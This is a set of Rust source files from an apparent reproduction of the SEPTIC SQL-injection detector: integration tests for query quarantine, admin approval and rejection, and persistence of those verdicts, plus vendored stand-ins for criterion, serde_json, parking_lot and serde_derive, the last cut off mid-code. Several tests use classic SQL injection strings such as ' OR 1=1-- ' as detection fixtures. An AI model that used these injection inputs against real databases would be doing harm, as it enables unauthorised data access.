//! verdicts persist across DBMS "restarts", and explicit retraining lifts
//! a rejection.

use std::sync::Arc;

use septic_repro::attacks::train;
use septic_repro::septic::{Mode, Septic};
use septic_repro::webapp::deployment::Deployment;
use septic_repro::webapp::WaspMon;

fn deploy_with(septic: Arc<Septic>) -> Deployment {
    Deployment::new(Arc::new(WaspMon::new()), None, Some(septic)).expect("deploy")
}

#[test]
fn unknown_queries_reach_quarantine_through_the_web_stack() {
    let septic = Arc::new(Septic::new());
    let d = deploy_with(septic.clone());
    let _ = train(&d, &septic, Mode::PREVENTION);
    assert!(
        septic.pending_review().is_empty(),
        "training fills no quarantine"
    );

    // A route the trainer missed (direct DB access by a batch job, say).
    d.connection()
        .query("SELECT username FROM users WHERE role = 'admin'")
        .expect("incremental learning executes the query");
    let pending = septic.pending_review();
    assert_eq!(pending.len(), 1);
}

#[test]
fn verdicts_survive_a_restart() {
    let septic = Arc::new(Septic::new());
    let d = deploy_with(septic.clone());
    let _ = train(&d, &septic, Mode::PREVENTION);

    // Two unknown shapes arrive one at a time, so each verdict
    // unambiguously targets the right model.
    d.connection()
        .query("SELECT username FROM users WHERE role = 'admin'")
        .unwrap();
    let pending = septic.pending_review();
    assert_eq!(pending.len(), 1);
    septic.approve_model(&pending[0]);
    d.connection()
        .query("SELECT COUNT(*) FROM readings WHERE watts > 1000")
        .unwrap();
    let pending = septic.pending_review();
    assert_eq!(pending.len(), 1);
    septic.reject_model(&pending[0]);

    // Persist, "restart" the DBMS, reload.
    let dir = std::env::temp_dir().join("septic-review-it");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("models.json");
    septic.save_models(&path).unwrap();

    let septic2 = Arc::new(Septic::new());
    septic2.load_models(&path).unwrap();
    septic2.set_mode(Mode::PREVENTION);
    let d2 = deploy_with(septic2.clone());

    // The approved shape flows; the rejected one is refused — across the
    // restart, with no re-training and no re-review.
    let approved = d2
        .connection()
        .query("SELECT username FROM users WHERE role = 'user'");
    let rejected = d2
        .connection()
        .query("SELECT COUNT(*) FROM readings WHERE watts > 5");
    assert!(
        approved.is_ok(),
        "approved shape must keep working: {approved:?}"
    );
    let err = rejected.expect_err("rejected shape must be refused");
    assert!(
        err.to_string().contains("rejected by administrator"),
        "{err}"
    );
    std::fs::remove_file(&path).ok();
}

#[test]
fn explicit_retraining_lifts_a_rejection_end_to_end() {
    let septic = Arc::new(Septic::new());
    let d = deploy_with(septic.clone());
    let _ = train(&d, &septic, Mode::PREVENTION);

    d.connection()
        .query("SELECT COUNT(*) FROM notes WHERE author = 'alice'")
        .unwrap();
    let pending = septic.pending_review();
    septic.reject_model(&pending[0]);
    assert!(d
        .connection()
        .query("SELECT COUNT(*) FROM notes WHERE author = 'bob'")
        .is_err());

    // The application is updated; the administrator retrains deliberately.
    septic.set_mode(Mode::Training);
    d.connection()
        .query("SELECT COUNT(*) FROM notes WHERE author = 'carol'")
        .unwrap();
    septic.set_mode(Mode::PREVENTION);

    // The shape is trusted again — and still guarded against injection.
    assert!(d
        .connection()
        .query("SELECT COUNT(*) FROM notes WHERE author = 'dave'")
        .is_ok());
    assert!(
        d.connection()
            .query("SELECT COUNT(*) FROM notes WHERE author = '' OR 1=1-- '")
            .is_err(),
        "the detector still covers the rehabilitated shape"
    );
}

#[test]
fn web_attacks_that_are_incrementally_learned_can_be_rejected_later() {
    // The operational loop the paper sketches: an attack with a novel head
    // slips in via incremental learning, the administrator reviews the log,
    // rejects it, and the attacker's replay fails.
    let septic = Arc::new(Septic::new());
    let d = deploy_with(septic.clone());
    let _ = train(&d, &septic, Mode::PREVENTION);

    // Nothing pending after training + benign traffic.
    assert!(septic.pending_review().is_empty());

    // The attacker finds an untrained maintenance endpoint shape (simulated
    // as a direct query with a new head).
    d.connection()
        .query("SELECT password FROM users WHERE username = 'admin' OR 1=1")
        .expect("first sight is learned, not blocked");
    let pending = septic.pending_review();
    assert_eq!(pending.len(), 1);
    septic.reject_model(&pending[0]);

    let replay = d
        .connection()
        .query("SELECT password FROM users WHERE username = 'x' OR 2=2");
    assert!(replay.is_err(), "replays of the rejected shape are refused");
}
