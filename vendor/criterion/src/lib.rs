//! Vendored stand-in for the `criterion` crate.
//!
//! Implements the subset of the API the workspace's benches use
//! (`Criterion`, `benchmark_group`, `bench_function`, `bench_with_input`,
//! `BenchmarkId`, `criterion_group!`, `criterion_main!`) with a simple
//! wall-clock timer: each benchmark is warmed up briefly, then measured
//! for a bounded number of iterations, and the mean time per iteration is
//! printed.
//!
//! The defaults are deliberately small so that bench binaries stay fast
//! when executed by `cargo test`; set `SEPTIC_BENCH_MS` (per-benchmark
//! measurement budget in milliseconds) for real measurement runs.

use std::fmt;
use std::time::{Duration, Instant};

/// Measurement budget per benchmark.
fn measure_budget() -> Duration {
    let ms = std::env::var("SEPTIC_BENCH_MS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20);
    Duration::from_millis(ms)
}

/// Benchmark identifier composed of a function name and a parameter.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    /// Creates an id like `function/parameter`.
    #[must_use]
    pub fn new(function: impl Into<String>, parameter: impl fmt::Display) -> Self {
        BenchmarkId {
            label: format!("{}/{}", function.into(), parameter),
        }
    }

    /// Creates an id from a parameter only.
    #[must_use]
    pub fn from_parameter(parameter: impl fmt::Display) -> Self {
        BenchmarkId {
            label: parameter.to_string(),
        }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.label)
    }
}

/// The measurement driver passed to benchmark closures.
#[derive(Debug, Default)]
pub struct Bencher {
    /// Mean nanoseconds per iteration of the last `iter` call.
    last_nanos: f64,
    iterations: u64,
}

impl Bencher {
    /// Times the closure: short warmup, then as many iterations as fit the
    /// measurement budget.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut routine: F) {
        // Warmup and per-iteration cost estimate.
        let warmup_started = Instant::now();
        std::hint::black_box(routine());
        let first = warmup_started.elapsed().max(Duration::from_nanos(1));
        let budget = measure_budget();
        let goal = (budget.as_nanos() / first.as_nanos()).clamp(1, 100_000) as u64;

        let started = Instant::now();
        let mut done = 0u64;
        while done < goal && started.elapsed() < budget {
            std::hint::black_box(routine());
            done += 1;
        }
        let elapsed = started.elapsed();
        self.iterations = done.max(1);
        self.last_nanos = elapsed.as_nanos() as f64 / self.iterations as f64;
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
}

impl BenchmarkGroup<'_> {
    /// Accepted for compatibility; the stand-in sizes runs by time budget.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Accepted for compatibility.
    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    /// Runs a benchmark identified by `id` with a borrowed input.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut routine: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut bencher = Bencher::default();
        routine(&mut bencher, input);
        self.criterion
            .report(&format!("{}/{}", self.name, id), &bencher);
        self
    }

    /// Runs a benchmark identified by a plain name.
    pub fn bench_function<F>(&mut self, name: &str, mut routine: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher::default();
        routine(&mut bencher);
        self.criterion
            .report(&format!("{}/{}", self.name, name), &bencher);
        self
    }

    /// Ends the group.
    pub fn finish(self) {}
}

/// The benchmark harness entry point.
#[derive(Debug, Default)]
pub struct Criterion {}

impl Criterion {
    /// Opens a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
        }
    }

    /// Runs a standalone benchmark.
    pub fn bench_function<F>(&mut self, name: &str, mut routine: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher::default();
        routine(&mut bencher);
        self.report(name, &bencher);
        self
    }

    fn report(&mut self, label: &str, bencher: &Bencher) {
        let nanos = bencher.last_nanos;
        let human = if nanos >= 1_000_000.0 {
            format!("{:.3} ms", nanos / 1_000_000.0)
        } else if nanos >= 1_000.0 {
            format!("{:.3} µs", nanos / 1_000.0)
        } else {
            format!("{nanos:.1} ns")
        };
        println!(
            "bench {label:<56} {human:>12}/iter ({} iters)",
            bencher.iterations
        );
    }
}

/// Re-exported for drop-in compatibility with `criterion::black_box`.
pub use std::hint::black_box;

/// Declares a group-runner function invoking each benchmark function.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_measures_something() {
        let mut b = Bencher::default();
        b.iter(|| std::hint::black_box(1 + 1));
        assert!(b.last_nanos > 0.0);
        assert!(b.iterations >= 1);
    }

    #[test]
    fn group_api_compiles_and_runs() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("g");
        group.sample_size(10);
        group.bench_function("direct", |b| b.iter(|| 2 * 2));
        group.bench_with_input(BenchmarkId::new("with_input", "x"), &41, |b, &n| {
            b.iter(|| n + 1)
        });
        group.finish();
    }
}
