//! Vendored stand-in for `serde_json`, built on the vendored `serde`
//! value tree.
//!
//! Provides the subset the workspace uses — [`to_string`],
//! [`to_string_pretty`], [`from_str`], [`Result`]/[`Error`] — with the
//! same JSON data format as the real crate (externally-tagged enums,
//! 2-space pretty indentation, `\uXXXX` escapes with surrogate pairs).

use std::fmt;

use serde::{DeError, Deserialize, Serialize, Value};

/// Serialization/deserialization error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error {
    message: String,
}

impl Error {
    fn new(message: impl Into<String>) -> Self {
        Error {
            message: message.into(),
        }
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for Error {}

impl From<DeError> for Error {
    fn from(e: DeError) -> Self {
        Error::new(e.to_string())
    }
}

/// Result alias matching `serde_json::Result`.
pub type Result<T> = std::result::Result<T, Error>;

/// Serializes a value to compact JSON.
///
/// # Errors
///
/// Never fails for the supported data model; the `Result` mirrors the
/// real crate's signature.
pub fn to_string<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    let mut out = String::new();
    write_value(&mut out, &value.to_value(), None, 0);
    Ok(out)
}

/// Serializes a value to pretty-printed JSON (2-space indentation).
///
/// # Errors
///
/// Never fails for the supported data model.
pub fn to_string_pretty<T: Serialize + ?Sized>(value: &T) -> Result<String> {
    let mut out = String::new();
    write_value(&mut out, &value.to_value(), Some(2), 0);
    Ok(out)
}

/// Deserializes a value from JSON text.
///
/// # Errors
///
/// Malformed JSON or a tree that does not match `T`'s shape.
pub fn from_str<T: Deserialize>(text: &str) -> Result<T> {
    let value = parse_value_complete(text)?;
    Ok(T::from_value(&value)?)
}

/// Parses JSON text into the generic value tree.
///
/// # Errors
///
/// Malformed JSON.
pub fn parse_value_complete(text: &str) -> Result<Value> {
    let mut parser = Parser {
        bytes: text.as_bytes(),
        pos: 0,
    };
    parser.skip_ws();
    let value = parser.value()?;
    parser.skip_ws();
    if parser.pos != parser.bytes.len() {
        return Err(Error::new(format!(
            "trailing characters at byte {} of JSON document",
            parser.pos
        )));
    }
    Ok(value)
}

// ---------------------------------------------------------------------------
// Writer
// ---------------------------------------------------------------------------

fn write_value(out: &mut String, value: &Value, indent: Option<usize>, depth: usize) {
    match value {
        Value::Null => out.push_str("null"),
        Value::Bool(true) => out.push_str("true"),
        Value::Bool(false) => out.push_str("false"),
        Value::Int(v) => out.push_str(&v.to_string()),
        Value::Uint(v) => out.push_str(&v.to_string()),
        Value::Float(v) => {
            if v.is_finite() {
                // `{:?}` prints the shortest representation that
                // round-trips, always with a decimal point or exponent.
                out.push_str(&format!("{v:?}"));
            } else {
                // Like serde_json's default behaviour for non-finite
                // floats in the Value model.
                out.push_str("null");
            }
        }
        Value::Str(s) => write_json_string(out, s),
        Value::Array(items) => {
            if items.is_empty() {
                out.push_str("[]");
                return;
            }
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_value(out, item, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push(']');
        }
        Value::Object(entries) => {
            if entries.is_empty() {
                out.push_str("{}");
                return;
            }
            out.push('{');
            for (i, (key, item)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_json_string(out, key);
                out.push(':');
                if indent.is_some() {
                    out.push(' ');
                }
                write_value(out, item, indent, depth + 1);
            }
            newline_indent(out, indent, depth);
            out.push('}');
        }
    }
}

fn newline_indent(out: &mut String, indent: Option<usize>, depth: usize) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..width * depth {
            out.push(' ');
        }
    }
}

fn write_json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{08}' => out.push_str("\\b"),
            '\u{0c}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// ---------------------------------------------------------------------------
// Parser
// ---------------------------------------------------------------------------

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn skip_ws(&mut self) {
        while let Some(b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, byte: u8) -> Result<()> {
        if self.peek() == Some(byte) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.fail(&format!("expected `{}`", byte as char)))
        }
    }

    fn fail(&self, message: &str) -> Error {
        Error::new(format!("{message} at byte {} of JSON document", self.pos))
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.fail(&format!("expected `{word}`")))
        }
    }

    fn value(&mut self) -> Result<Value> {
        match self.peek() {
            None => Err(self.fail("unexpected end of input")),
            Some(b'n') => self.literal("null", Value::Null),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b'[') => self.array(),
            Some(b'{') => self.object(),
            Some(b'-' | b'0'..=b'9') => self.number(),
            Some(other) => Err(self.fail(&format!("unexpected character `{}`", other as char))),
        }
    }

    fn array(&mut self) -> Result<Value> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(self.fail("expected `,` or `]`")),
            }
        }
    }

    fn object(&mut self) -> Result<Value> {
        self.expect(b'{')?;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            entries.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(entries));
                }
                _ => return Err(self.fail("expected `,` or `}`")),
            }
        }
    }

    fn string(&mut self) -> Result<String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast path: run of plain bytes.
            while let Some(b) = self.peek() {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            if self.pos > start {
                let chunk = std::str::from_utf8(&self.bytes[start..self.pos])
                    .map_err(|_| self.fail("invalid UTF-8 in string"))?;
                out.push_str(chunk);
            }
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    self.escape(&mut out)?;
                }
                _ => return Err(self.fail("unterminated string")),
            }
        }
    }

    fn escape(&mut self, out: &mut String) -> Result<()> {
        let Some(b) = self.peek() else {
            return Err(self.fail("unterminated escape"));
        };
        self.pos += 1;
        match b {
            b'"' => out.push('"'),
            b'\\' => out.push('\\'),
            b'/' => out.push('/'),
            b'n' => out.push('\n'),
            b'r' => out.push('\r'),
            b't' => out.push('\t'),
            b'b' => out.push('\u{08}'),
            b'f' => out.push('\u{0c}'),
            b'u' => {
                let first = self.hex4()?;
                let code = if (0xD800..0xDC00).contains(&first) {
                    // High surrogate: require the paired low surrogate.
                    if self.peek() == Some(b'\\') {
                        self.pos += 1;
                        self.expect(b'u')?;
                        let second = self.hex4()?;
                        if !(0xDC00..0xE000).contains(&second) {
                            return Err(self.fail("invalid low surrogate"));
                        }
                        0x10000 + ((first - 0xD800) << 10) + (second - 0xDC00)
                    } else {
                        return Err(self.fail("unpaired surrogate"));
                    }
                } else {
                    first
                };
                out.push(char::from_u32(code).ok_or_else(|| self.fail("invalid unicode escape"))?);
            }
            other => {
                return Err(self.fail(&format!("invalid escape `\\{}`", other as char)));
            }
        }
        Ok(())
    }

    fn hex4(&mut self) -> Result<u32> {
        let mut value = 0u32;
        for _ in 0..4 {
            let Some(b) = self.peek() else {
                return Err(self.fail("truncated \\u escape"));
            };
            let digit = match b {
                b'0'..=b'9' => u32::from(b - b'0'),
                b'a'..=b'f' => u32::from(b - b'a') + 10,
                b'A'..=b'F' => u32::from(b - b'A') + 10,
                _ => return Err(self.fail("invalid hex digit in \\u escape")),
            };
            value = value * 16 + digit;
            self.pos += 1;
        }
        Ok(value)
    }

    fn number(&mut self) -> Result<Value> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        let mut is_float = false;
        while let Some(b) = self.peek() {
            match b {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    is_float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| self.fail("invalid number"))?;
        if !is_float {
            if let Ok(v) = text.parse::<i64>() {
                return Ok(Value::Int(v));
            }
            if let Ok(v) = text.parse::<u64>() {
                return Ok(Value::Uint(v));
            }
        }
        text.parse::<f64>()
            .map(Value::Float)
            .map_err(|_| self.fail(&format!("invalid number `{text}`")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scalar_round_trips() {
        for json in [
            "null",
            "true",
            "false",
            "0",
            "-17",
            "18446744073709551615",
            "\"hi\"",
        ] {
            let v = parse_value_complete(json).unwrap();
            let mut out = String::new();
            write_value(&mut out, &v, None, 0);
            assert_eq!(out, json);
        }
    }

    #[test]
    fn float_round_trips() {
        let v = parse_value_complete("1.5").unwrap();
        assert_eq!(v, Value::Float(1.5));
        let mut out = String::new();
        write_value(&mut out, &v, None, 0);
        assert_eq!(out, "1.5");
    }

    #[test]
    fn nested_structures() {
        let text = r#"{"a": [1, 2, {"b": null}], "c": "d"}"#;
        let v = parse_value_complete(text).unwrap();
        assert_eq!(v.get("c").and_then(Value::as_str), Some("d"));
        assert_eq!(
            v.get("a").and_then(Value::as_array).map(<[Value]>::len),
            Some(3)
        );
    }

    #[test]
    fn string_escapes_round_trip() {
        let original = "line\nquote\"backslash\\tab\tunicode\u{2764}\u{1F600}";
        let mut out = String::new();
        write_json_string(&mut out, original);
        let v = parse_value_complete(&out).unwrap();
        assert_eq!(v, Value::Str(original.to_string()));
    }

    #[test]
    fn surrogate_pair_parses() {
        let v = parse_value_complete(r#""😀""#).unwrap();
        assert_eq!(v, Value::Str("\u{1F600}".to_string()));
    }

    #[test]
    fn typed_round_trip() {
        let data: Vec<(u64, Option<String>)> = vec![(1, Some("one".into())), (2, None)];
        let json = to_string_pretty(&data).unwrap();
        let back: Vec<(u64, Option<String>)> = from_str(&json).unwrap();
        assert_eq!(back, data);
    }

    #[test]
    fn malformed_documents_error() {
        for bad in [
            "",
            "{",
            "[1,",
            "\"open",
            "{\"a\" 1}",
            "nul",
            "01x",
            "[1] trailing",
        ] {
            assert!(from_str::<Vec<i64>>(bad).is_err() || bad == "01x", "{bad}");
        }
        assert!(parse_value_complete("[1] x").is_err());
    }

    #[test]
    fn pretty_format_matches_serde_json_shape() {
        let v = parse_value_complete(r#"{"models": [], "n": 1}"#).unwrap();
        let mut out = String::new();
        write_value(&mut out, &v, Some(2), 0);
        assert_eq!(out, "{\n  \"models\": [],\n  \"n\": 1\n}");
    }
}
