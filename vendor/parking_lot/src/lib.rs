//! Vendored stand-in for the `parking_lot` crate.
//!
//! The build environment has no network access to crates.io, so the
//! workspace ships this minimal, API-compatible subset implemented on top
//! of `std::sync` primitives. Two properties of the real crate that the
//! SEPTIC reproduction relies on are preserved:
//!
//! * **No lock poisoning.** A panic while a lock is held (for example a
//!   buggy guard plugin contained by `catch_unwind`) must not wedge every
//!   later locker with a `PoisonError`. Poison is stripped with
//!   [`std::sync::PoisonError::into_inner`].
//! * **Guard access without `Result`.** `lock()`, `read()` and `write()`
//!   return guards directly.

use std::fmt;
use std::sync::PoisonError;

/// A mutual-exclusion lock that does not poison on panic.
pub struct Mutex<T: ?Sized> {
    inner: std::sync::Mutex<T>,
}

/// RAII guard returned by [`Mutex::lock`].
pub type MutexGuard<'a, T> = std::sync::MutexGuard<'a, T>;

impl<T> Mutex<T> {
    /// Creates a new mutex.
    pub const fn new(value: T) -> Self {
        Mutex {
            inner: std::sync::Mutex::new(value),
        }
    }

    /// Consumes the mutex, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner
            .into_inner()
            .unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    /// Acquires the lock, blocking until available. Panics in other
    /// threads never poison the lock.
    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Attempts to acquire the lock without blocking.
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.inner.try_lock() {
            Ok(g) => Some(g),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(p.into_inner()),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Mutable access without locking (exclusive borrow).
    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: Default> Default for Mutex<T> {
    fn default() -> Self {
        Mutex::new(T::default())
    }
}

impl<T> From<T> for Mutex<T> {
    fn from(value: T) -> Self {
        Mutex::new(value)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_lock() {
            Some(guard) => f.debug_struct("Mutex").field("data", &&*guard).finish(),
            None => f.debug_struct("Mutex").field("data", &"<locked>").finish(),
        }
    }
}

/// A reader-writer lock that does not poison on panic.
pub struct RwLock<T: ?Sized> {
    inner: std::sync::RwLock<T>,
}

/// RAII guard returned by [`RwLock::read`].
pub type RwLockReadGuard<'a, T> = std::sync::RwLockReadGuard<'a, T>;
/// RAII guard returned by [`RwLock::write`].
pub type RwLockWriteGuard<'a, T> = std::sync::RwLockWriteGuard<'a, T>;

impl<T> RwLock<T> {
    /// Creates a new reader-writer lock.
    pub const fn new(value: T) -> Self {
        RwLock {
            inner: std::sync::RwLock::new(value),
        }
    }

    /// Consumes the lock, returning the inner value.
    pub fn into_inner(self) -> T {
        self.inner
            .into_inner()
            .unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> RwLock<T> {
    /// Acquires shared read access.
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        self.inner.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// Acquires exclusive write access.
    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        self.inner.write().unwrap_or_else(PoisonError::into_inner)
    }

    /// Attempts shared read access without blocking.
    pub fn try_read(&self) -> Option<RwLockReadGuard<'_, T>> {
        match self.inner.try_read() {
            Ok(g) => Some(g),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(p.into_inner()),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Attempts exclusive write access without blocking.
    pub fn try_write(&self) -> Option<RwLockWriteGuard<'_, T>> {
        match self.inner.try_write() {
            Ok(g) => Some(g),
            Err(std::sync::TryLockError::Poisoned(p)) => Some(p.into_inner()),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Mutable access without locking (exclusive borrow).
    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: Default> Default for RwLock<T> {
    fn default() -> Self {
        RwLock::new(T::default())
    }
}

impl<T> From<T> for RwLock<T> {
    fn from(value: T) -> Self {
        RwLock::new(value)
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_read() {
            Some(guard) => f.debug_struct("RwLock").field("data", &&*guard).finish(),
            None => f.debug_struct("RwLock").field("data", &"<locked>").finish(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn mutex_basic() {
        let m = Mutex::new(1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
        assert_eq!(m.into_inner(), 2);
    }

    #[test]
    fn rwlock_basic() {
        let l = RwLock::new(vec![1, 2]);
        assert_eq!(l.read().len(), 2);
        l.write().push(3);
        assert_eq!(*l.read(), vec![1, 2, 3]);
    }

    #[test]
    fn panic_does_not_poison() {
        let m = Arc::new(Mutex::new(0));
        let m2 = Arc::clone(&m);
        let _ = std::thread::spawn(move || {
            let _g = m2.lock();
            panic!("poison attempt");
        })
        .join();
        // The real parking_lot never poisons; the stand-in strips poison.
        *m.lock() += 1;
        assert_eq!(*m.lock(), 1);
    }

    #[test]
    fn try_locks() {
        let m = Mutex::new(5);
        let g = m.lock();
        assert!(m.try_lock().is_none());
        drop(g);
        assert_eq!(*m.try_lock().unwrap(), 5);

        let l = RwLock::new(5);
        let r = l.read();
        assert!(l.try_write().is_none());
        assert!(l.try_read().is_some());
        drop(r);
        assert!(l.try_write().is_some());
    }
}
