//! Vendored stand-in for `serde_derive`.
//!
//! Implements `#[derive(Serialize)]` and `#[derive(Deserialize)]` against
//! the vendored `serde` crate's value-tree traits, without `syn`/`quote`
//! (unavailable offline): the item is parsed directly from the
//! `proc_macro::TokenStream` and the impl is emitted as source text.
//!
//! Supported shapes — everything this workspace derives on:
//!
//! * structs with named fields (`#[serde(default)]` honored per field),
//!   tuple structs (newtype and n-ary) and unit structs;
//! * enums with unit, tuple and struct variants, encoded externally
//!   tagged exactly like real serde (`"Variant"`,
//!   `{"Variant": payload}`) so existing JSON stays compatible.
//!
//! Generic parameters are rejected with a compile error (none of the
//! workspace's serialized types are generic).

use proc_macro::{Delimiter, TokenStream, TokenTree};

/// One parsed field of a struct or struct variant.
struct Field {
    name: String,
    has_default: bool,
}

/// One parsed enum variant.
struct Variant {
    name: String,
    shape: VariantShape,
}

enum VariantShape {
    Unit,
    Tuple(usize),
    Struct(Vec<Field>),
}

/// The parsed derive input.
enum Item {
    NamedStruct {
        name: String,
        fields: Vec<Field>,
    },
    TupleStruct {
        name: String,
        arity: usize,
    },
    UnitStruct {
        name: String,
    },
    Enum {
        name: String,
        variants: Vec<Variant>,
    },
}

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_serialize(&item)
        .parse()
        .expect("serde_derive: generated Serialize impl must parse")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_deserialize(&item)
        .parse()
        .expect("serde_derive: generated Deserialize impl must parse")
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

/// True when the attribute token group marks `#[serde(default)]`.
fn attr_is_serde_default(group: &proc_macro::Group) -> bool {
    let mut tokens = group.stream().into_iter();
    match tokens.next() {
        Some(TokenTree::Ident(id)) if id.to_string() == "serde" => {}
        _ => return false,
    }
    match tokens.next() {
        Some(TokenTree::Group(inner)) => inner
            .stream()
            .into_iter()
            .any(|t| matches!(&t, TokenTree::Ident(id) if id.to_string() == "default")),
        _ => false,
    }
}

/// Consumes leading attributes, returning whether `#[serde(default)]` was
/// among them.
fn skip_attrs(tokens: &mut std::iter::Peekable<impl Iterator<Item = TokenTree>>) -> bool {
    let mut has_default = false;
    loop {
        match tokens.peek() {
            Some(TokenTree::Punct(p)) if p.as_char() == '#' => {
                tokens.next();
                match tokens.next() {
                    Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Bracket => {
